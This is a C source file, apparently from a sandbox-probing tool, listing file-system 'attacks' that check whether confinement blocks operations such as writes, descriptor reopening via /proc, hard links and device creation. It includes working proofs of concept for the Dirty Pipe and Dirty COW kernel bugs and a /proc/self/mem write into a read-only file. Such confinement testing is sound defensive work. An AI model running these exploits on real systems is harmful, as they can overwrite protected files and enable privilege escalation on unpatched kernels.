/* Calls on files that no shell tool makes. */
#include "probe.h"

#include <dirent.h>
#include <linux/fs.h>
#include <sys/inotify.h>
#include <sys/sendfile.h>
#include <sys/time.h>
#include <sys/xattr.h>

/* Whether any of the paths opens for writing; nothing is written. */
static int open_write(char **w) {
  for (; *w != NULL; w++)
    if (open(*w, O_WRONLY | O_NOCTTY | O_NONBLOCK) >= 0)
      return 0;
  return 1;
}

static int open_read(char **w) {
  for (; *w != NULL; w++)
    if (open(*w, O_RDONLY | O_NOCTTY | O_NONBLOCK) >= 0)
      return 0;
  return 1;
}

/* Opens only to find it, then opens what it found: reopen PATH r|w */
static int reopen(char **w) {
  char path[64];
  int found = open(w[0], O_PATH | O_NOFOLLOW);
  snprintf(path, sizeof path, "/proc/self/fd/%d", found);
  return worked(open(path, *w[1] == 'w' ? O_WRONLY : O_RDONLY));
}

/* The same from a descriptor that was opened for reading. */
static int upgrade(char **w) {
  char path[64];
  int found = open(w[0], O_RDONLY);
  snprintf(path, sizeof path, "/proc/self/fd/%d", found);
  return worked(open(path, O_RDWR));
}

static int upgrade_thread(char **w) {
  char path[64];
  int found = open(w[0], O_RDONLY);
  snprintf(path, sizeof path, "/proc/thread-self/fd/%d", found);
  return worked(open(path, O_WRONLY | O_APPEND));
}

/* Out of a directory that is open: below PATH NAME */
static int climb(char **w) {
  int directory = open(w[0], O_PATH | O_DIRECTORY);
  return worked(openat(directory, w[1], O_WRONLY | O_CREAT, 0644));
}

static int unnamed(char **w) {
  return worked(open(w[0], O_TMPFILE | O_RDWR, 0644));
}

static int map_write(char **w) {
  int fd = open(w[0], O_RDWR);
  return mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) == MAP_FAILED;
}

/* A private mapping of what is opened for reading that is to be made a shared one. */
static int map_read_then_write(char **w) {
  int fd = open(w[0], O_RDONLY);
  void *at = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  return at == MAP_FAILED ? 1 : worked(mprotect(at, 4096, PROT_READ | PROT_WRITE));
}

static int writable_by_owner(char **w) {
  return worked(truncate(w[0], 1));
}

static int exchange(char **w) {
  return worked(syscall(SYS_renameat2, AT_FDCWD, w[0], AT_FDCWD, w[1], 2));
}

static int whiteout(char **w) {
  return worked(syscall(SYS_renameat2, AT_FDCWD, w[0], AT_FDCWD, w[1], 4));
}

static int hard_link(char **w) {
  return worked(linkat(AT_FDCWD, w[0], AT_FDCWD, w[1], AT_SYMLINK_FOLLOW));
}

/* A hard link from a descriptor. */
static int link_descriptor(char **w) {
  char path[64];
  int fd = open(w[0], O_PATH);
  snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
  return worked(linkat(AT_FDCWD, path, AT_FDCWD, w[1], AT_SYMLINK_FOLLOW));
}

static int link_empty_path(char **w) {
  int fd = open(w[0], O_PATH);
  return worked(linkat(fd, "", AT_FDCWD, w[1], AT_EMPTY_PATH));
}

static int attribute(char **w) {
  return worked(setxattr(w[0], "user.zett", "x", 1, 0));
}

static int attribute_read(char **w) {
  char value[16];
  return reached(getxattr(w[0], "user.zett", value, sizeof value), ENODATA);
}

static int times(char **w) {
  return worked(utimensat(AT_FDCWD, w[0], NULL, 0));
}

static int flags(char **w) {
  int value = 0, fd = open(w[0], O_RDONLY);
  if (ioctl(fd, FS_IOC_GETFLAGS, &value) < 0)
    return 1;
  return worked(ioctl(fd, FS_IOC_SETFLAGS, &value));
}

static int send_file(char **w) {
  int from = open(w[0], O_RDONLY), to = (int)syscall(SYS_memfd_create, "x", 0);
  return sendfile(to, from, NULL, 6) == 6 ? 0 : 1;
}

static int copy_range(char **w) {
  int from = open(w[0], O_RDONLY), to = open(w[1], O_WRONLY | O_CREAT, 0644);
  return copy_file_range(from, NULL, to, NULL, 6, 0) == 6 ? 0 : 1;
}

/* Writes into a file by the kernel's own copying. */
static int copy_into(char **w) {
  int from = open("/proc/self/exe", O_RDONLY), to = open(w[0], O_RDWR);
  return copy_file_range(from, NULL, to, NULL, 1, 0) == 1 ? 0 : 1;
}

static int allocate(char **w) {
  return worked(fallocate(open(w[0], O_RDWR), FALLOC_FL_KEEP_SIZE, 0, 4096));
}

static int pages(char **w) {
  int fds[2], from = open(w[0], O_RDONLY);
  (void)!pipe(fds);
  return splice(from, NULL, fds[1], NULL, 6, 0) == 6 ? 0 : 1;
}

/* Splices a file's page into a pipe and writes on: CVE-2022-0847. */
static int dirty_pipe(char **w) {
  static char page[4096];
  char now[4] = "";
  int fds[2], from = open(w[0], O_RDONLY);
  (void)!pipe(fds);
  int room = fcntl(fds[1], F_GETPIPE_SZ);
  for (int i = 0; i < room / 4096; i++)
    (void)!write(fds[1], page, sizeof page);
  for (int i = 0; i < room / 4096; i++)
    (void)!read(fds[0], page, sizeof page);
  loff_t offset = 0;
  (void)!splice(from, &offset, fds[1], NULL, 1, 0);
  (void)!write(fds[1], "ZZZ", 3);
  (void)!pread(open(w[0], O_RDONLY), now, 4, 0);
  return memcmp(now + 1, "ZZZ", 3) == 0 ? 0 : 1;
}

/* Writes through /proc/self/mem into a page of a file mapped for reading. */
static int write_memory(char **w) {
  char now = 0;
  int fd = open(w[0], O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
  char *at = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0);
  (void)!pwrite(memory, "Z", 1, (off_t)(uintptr_t)at);
  (void)!pread(open(w[0], O_RDONLY), &now, 1, 0);
  return now == 'Z' ? 0 : 1;
}

/* The same with a private mapping that the kernel is asked to drop meanwhile: CVE-2016-5195. */
static int dirty_cow(char **w) {
  char now = 0;
  int fd = open(w[0], O_RDONLY), memory = open("/proc/self/mem", O_RDWR);
  char *at = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
  pid_t pid = fork();
  if (pid == 0)
    for (int i = 0; i < 5000; i++)
      madvise(at, 4096, MADV_DONTNEED);
  for (int i = 0; i < 5000; i++)
    (void)!pwrite(memory, "Z", 1, (off_t)(uintptr_t)at);
  if (pid == 0)
    _exit(0);
  waitpid(pid, NULL, 0);
  (void)!pread(open(w[0], O_RDONLY), &now, 1, 0);
  return now == 'Z' ? 0 : 1;
}

static int watch(char **w) {
  return worked(inotify_add_watch(inotify_init(), w[0], IN_ALL_EVENTS));
}

static int list(char **w) {
  DIR *directory = opendir(w[0]);
  int entries = 0;
  while (directory != NULL && readdir(directory) != NULL)
    entries++;
  return entries > 2 ? 0 : 1;
}

/* Whether there is anything to be read: a byte, or an entry of a directory. */
static int content(char **w) {
  char some;
  if (read(open(w[0], O_RDONLY | O_NONBLOCK), &some, 1) == 1)
    return 0;
  return list(w);
}

static int execute(char **w) {
  int fd = open(w[0], O_PATH);
  char *words[] = {w[0], NULL}, *none[] = {NULL};
  return worked(syscall(SYS_execveat, fd, "", words, none, AT_EMPTY_PATH));
}

static int device(char **w) {
  return worked(mknod(w[0], (*w[1] == 'b' ? S_IFBLK : S_IFCHR) | 0600,
                      (dev_t)strtoul(w[2], NULL, 0) << 8 | strtoul(w[3], NULL, 0)));
}

static int pipe_node(char **w) {
  return worked(mkfifo(w[0], 0644));
}

static int lease(char **w) {
  return worked(fcntl(open(w[0], O_WRONLY), F_SETLEASE, F_WRLCK));
}

/* More descriptors than the three and the one that looks. */
static int descriptors(char **w) {
  (void)w;
  for (int fd = 3; fd < 4096; fd++)
    if (fcntl(fd, F_GETFD) >= 0)
      return 0;
  return 1;
}

const struct attack file_attacks[] = {{"open-write", open_write},
                                      {"open-read", open_read},
                                      {"reopen", reopen},
                                      {"upgrade", upgrade},
                                      {"upgrade-thread", upgrade_thread},
                                      {"climb", climb},
                                      {"unnamed", unnamed},
                                      {"map-write", map_write},
                                      {"map-protect", map_read_then_write},
                                      {"truncate", writable_by_owner},
                                      {"exchange", exchange},
                                      {"whiteout", whiteout},
                                      {"hard-link", hard_link},
                                      {"link-descriptor", link_descriptor},
                                      {"link-empty", link_empty_path},
                                      {"attribute", attribute},
                                      {"attribute-read", attribute_read},
                                      {"times", times},
                                      {"flags", flags},
                                      {"send", send_file},
                                      {"copy-range", copy_range},
                                      {"copy-into", copy_into},
                                      {"allocate", allocate},
                                      {"splice", pages},
                                      {"dirty-pipe", dirty_pipe},
                                      {"write-memory", write_memory},
                                      {"dirty-cow", dirty_cow},
                                      {"watch", watch},
                                      {"list", list},
                                      {"content", content},
                                      {"execute", execute},
                                      {"device", device},
                                      {"fifo", pipe_node},
                                      {"lease", lease},
                                      {"descriptors", descriptors},
                                      {NULL, NULL}};
